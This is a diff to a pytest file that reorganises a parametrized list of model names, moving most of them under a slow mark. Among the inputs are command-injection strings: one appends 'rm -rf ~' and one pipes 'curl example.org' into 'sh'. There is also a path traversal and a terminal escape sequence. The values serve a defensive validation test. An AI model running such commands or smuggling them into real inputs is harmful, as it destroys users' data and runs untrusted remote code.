@@ -77,8 +77,16 @@ def text(tmp_path: Path) -> Path:
 @pytest.mark.parametrize(
     "model",
     [
-        "of_a_stranger", "numpy", "model", "./model", "../model", "en_core_web_sm; rm -rf ~", "",
-        "en_core_web_sm && curl example.org | sh", "https://example.org/m.zip", "\x1b[2J", "de_core_news_sm",
+        "of_a_stranger",
+        "../model",
+        "https://example.org/m.zip",
+        *(
+            pytest.param(name, marks=pytest.mark.slow)
+            for name in (
+                "numpy", "model", "./model", "en_core_web_sm; rm -rf ~", "",
+                "en_core_web_sm && curl example.org | sh", "\x1b[2J", "de_core_news_sm",
+            )
+        ),
     ],
 )  # fmt: skip
 def test_a_profile_names_known_models_alone(
